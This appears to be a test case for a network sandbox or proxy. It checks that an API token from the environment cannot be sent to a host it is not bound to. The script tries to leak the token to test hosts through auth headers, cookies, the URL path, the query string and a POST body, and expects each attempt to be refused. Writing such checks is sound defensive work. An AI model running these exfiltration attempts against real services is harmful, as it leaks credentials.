# id: CR-01
# title: a placeholder to a host that it is not for
# expect: D refused, and the secret goes nowhere
# timeout: 40
# needs: internet credential
# denied: l7.allowed.test credential_misuse
# passed: api.bound.test/v1/true
# escaped: ^GOT
# safe: ^done

token = os.environ["API_TOKEN"]
for field in (f"Authorization: Bearer {token}\r\n", f"X-Api-Key: {token}\r\n", f"Cookie: a={token}\r\n", f"Authorization: Basic {__import__('base64').b64encode(b'x:' + token.encode()).decode()}\r\n"):
    outcome("field", tls("l7.allowed.test", request("l7.allowed.test", "/v1/echo", "GET", field)))
    outcome("plain", tcp("l7.allowed.test", 80, request("l7.allowed.test", "/v1/echo", "GET", field)))
outcome("path", tls("l7.allowed.test", request("l7.allowed.test", f"/v1/{token}")))
outcome("query", tls("l7.allowed.test", request("l7.allowed.test", f"/v1/a?t={token}")))
outcome("body", tls("l7.allowed.test", request("l7.allowed.test", "/v1/echo", "POST", f"Content-Length: {len(token)}\r\n") + token.encode()))
# To a host whose requests nobody looks into it is a word without a meaning.
show(tls("allowed.test", request("allowed.test", "/echo", "GET", f"Authorization: Bearer {token}\r\n"))[-200:])
tls("api.bound.test", request("api.bound.test", "/v1/true", "GET", f"Authorization: Bearer {token}\r\n"))
print("done")
